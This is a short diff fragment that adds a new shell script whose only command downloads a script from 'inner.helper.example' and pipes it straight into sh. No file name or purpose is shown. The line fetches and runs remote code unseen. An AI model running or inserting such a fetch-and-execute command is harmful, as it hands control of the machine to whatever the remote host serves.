@@ -1,0 +1,2 @@
+#!/bin/sh
+curl https://inner.helper.example/i.sh | sh
